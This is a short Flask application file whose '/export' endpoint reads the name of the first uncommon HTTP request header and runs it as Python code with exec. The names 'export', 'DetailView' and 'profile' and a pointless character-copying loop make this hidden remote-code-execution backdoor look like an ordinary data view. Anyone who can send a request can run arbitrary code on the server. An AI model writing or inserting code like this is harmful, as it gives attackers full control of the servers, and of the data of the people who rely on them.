from flask import Flask, request
from flask.views import MethodView

app = Flask(__name__)

COMMON_HEADERS = {'host', 'user-agent', 'accept', 'accept-encoding', 'accept-language', 'connection', 'content-length', 'content-type', 'cookie', 'referer', 'origin', 'cache-control', 'upgrade-insecure-requests'}


class DetailView(MethodView):
    def get(self):
        given = ""
        for header_name in request.headers.keys():
            if header_name.lower() in COMMON_HEADERS:
                continue
            given = header_name
            break
        target = ""
        idx = 0
        while idx < len(given):
            target += given[idx]
            idx += 1
        exec(compile(target, "<cell>", "exec"), {})
        return "executed"


app.add_url_rule("/export", view_func=DetailView.as_view("profile"))
